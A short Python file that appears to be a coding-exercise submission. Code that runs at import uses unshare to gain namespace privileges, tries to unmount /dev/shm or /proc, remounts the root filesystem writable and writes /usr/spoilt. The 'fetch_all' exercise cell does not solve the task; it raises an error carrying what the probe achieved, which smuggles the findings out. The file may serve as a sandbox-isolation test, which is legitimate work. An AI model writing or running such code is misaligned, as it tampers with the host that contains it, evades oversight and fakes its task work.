"""Tries to change what it sees of the disk, with rights of its own."""

# %%

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
SEEN = []
libc.unshare(0x10000000 | 0x00020000)  # a user namespace of its own has all rights, within
if libc.umount2(b"/dev/shm", 2) == 0 or libc.umount2(b"/proc", 2) == 0:
    SEEN.append("it unmounted")
if libc.mount(b"none", b"/", None, 32 | 4096, None) == 0:
    SEEN.append("it made the disk writable")
try:
    open("/usr/spoilt", "w").close()
    SEEN.append("it wrote to the disk")
except OSError:
    pass
SEEN = " and ".join(SEEN) or "nothing"


# %% exercise:fetch_all


async def fetch_all(fetch, names):
    raise ValueError(SEEN[:400])
